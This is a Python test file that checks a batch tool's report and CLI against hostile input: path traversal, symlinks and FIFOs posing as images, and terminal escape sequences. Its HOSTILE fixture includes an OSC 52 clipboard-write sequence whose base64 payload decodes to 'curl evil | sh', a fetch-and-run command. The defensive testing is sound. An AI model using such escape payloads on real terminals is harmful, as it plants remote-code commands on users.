"""What a sheet or the provider could turn against the reader: images from outside the allowed
folder, FIFOs named as images, escape sequences printed on the terminal."""

from __future__ import annotations

import asyncio
import json
import os
import threading
from pathlib import Path

import pytest
from recordfactory import image, make_run, record, summary

from batchwan.outputs.report import render_report
from batchwan.store.ledger import Ledger
from batchwan.values import Status
from tests.runhelpers import invoke

HOSTILE = "\x1b]0;owned\x07\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[2J\u202e"


def _meta(sheet_dir: Path) -> dict[str, str]:
    return {"sheet": str(sheet_dir / "sheet.csv")}


def test_outside_image_of_a_refused_row_is_not_embedded(tmp_path: Path) -> None:
    """A row rightly refused for naming a file outside the sheet's folder gets no thumbnail of
    that file, nor does any row whose image lies outside (directly or through a link)."""
    secret = image(tmp_path / "private" / "secret.png", colour="#ff0000")
    inside = image(tmp_path / "sheet" / "ok.png")
    link = tmp_path / "sheet" / "link.png"
    link.symlink_to(secret)
    records = [
        record(1, Status.INVALID, image="../private/secret.png", error="image: leads outside"),
        record(2, image=str(secret)),
        record(3, image="link.png"),
        record(4, image=str(inside)),
    ]
    page = render_report(
        tmp_path / "run", records, summary(records), meta=_meta(tmp_path / "sheet")
    )
    assert page.count("data:image/jpeg;base64,") == 1
    assert "../private/secret.png" in page  # the path stays visible, as text


def test_invalid_row_inside_the_folder_gets_no_thumbnail(tmp_path: Path) -> None:
    """Only images that passed validation are previewed."""
    picture = image(tmp_path / "sheet" / "small.png", size=(100, 100))
    records = [record(1, Status.INVALID, image="small.png", error="image: too small")]
    page = render_report(
        tmp_path / "run", records, summary(records), meta=_meta(tmp_path / "sheet")
    )
    assert picture.is_file()
    assert "data:image/jpeg;base64," not in page


def test_a_fifo_named_as_an_image_does_not_hang_the_report(tmp_path: Path) -> None:
    """A FIFO in the sheet's folder is never opened for reading: the report is written at once
    (bounded here; if it ever blocks, a writer is opened to release it and the test fails)."""
    folder = tmp_path / "sheet"
    folder.mkdir()
    fifo = folder / "frame.png"
    os.mkfifo(fifo)
    records = [record(1, image="frame.png"), record(2, image=str(fifo))]
    done: list[str] = []
    worker = threading.Thread(
        target=lambda: done.append(
            render_report(tmp_path / "run", records, summary(records), meta=_meta(folder))
        ),
        daemon=True,
    )
    worker.start()
    worker.join(timeout=20)
    if worker.is_alive():
        fd = os.open(fifo, os.O_WRONLY | os.O_NONBLOCK)
        os.close(fd)
        worker.join(timeout=5)
        pytest.fail("the report blocked on a FIFO")
    assert "data:image/jpeg;base64," not in done[0]


def test_escape_sequences_from_cells_and_provider_are_not_printed(tmp_path: Path) -> None:
    """status prints a sheet cell and a provider error holding escape sequences (title, OSC 52
    clipboard, clear screen, bidi override) without any of them."""
    extras = [{"campaign": f"spring{HOSTILE}"} for _ in range(4)]
    run_dir = make_run(tmp_path, extras=extras)
    ledger = Ledger(run_dir)
    try:
        asyncio.run(ledger.task_finished("k2", Status.FAILED, error=f"3001 upstream {HOSTILE}x"))
    finally:
        ledger.close()
    for args in (["status", str(run_dir), "--group-by", "campaign"], ["status", str(run_dir)]):
        result = invoke(args)
        assert result.exit_code == 1
        assert "3001 upstream" in result.output
        for raw in ("\x1b", "\x07", "\u202e"):
            assert raw not in result.output
    assert "spring" in invoke(["status", str(run_dir), "--group-by", "campaign"]).output


def test_escape_sequences_in_a_sheet_are_not_printed_by_validate(tmp_path: Path) -> None:
    """A bad cell quoted in a validation message reaches the terminal without its escapes."""
    sheet = tmp_path / "sheet.csv"
    sheet.write_text(
        f"prompt,image,duration\na cat,https://x.example/a.jpg,7{HOSTILE}\n", encoding="utf-8"
    )
    result = invoke(["validate", str(sheet)])
    assert result.exit_code == 1
    assert "duration" in result.output
    for raw in ("\x1b", "\x07", "\u202e"):
        assert raw not in result.output


def test_images_under_the_image_root_are_previewed(tmp_path: Path) -> None:
    """With --image-root recorded, images inside it are previewed even outside the sheet's
    folder, and the sheet's own folder no longer counts."""
    shared = image(tmp_path / "shared" / "a.png")
    beside = image(tmp_path / "sheet" / "b.png")
    records = [record(1, image=str(shared)), record(2, image=str(beside))]
    meta = {**_meta(tmp_path / "sheet"), "image_root": str(tmp_path / "shared")}
    page = render_report(tmp_path / "run", records, summary(records), meta=meta)
    assert page.count("data:image/jpeg;base64,") == 1
    blob = page.split('id="report-data">')[1].split("</script>")[0]
    rows = json.loads(blob)["rows"]
    assert [row[5] for row in rows] == [0, -1]  # the thumbnail is the shared folder's image
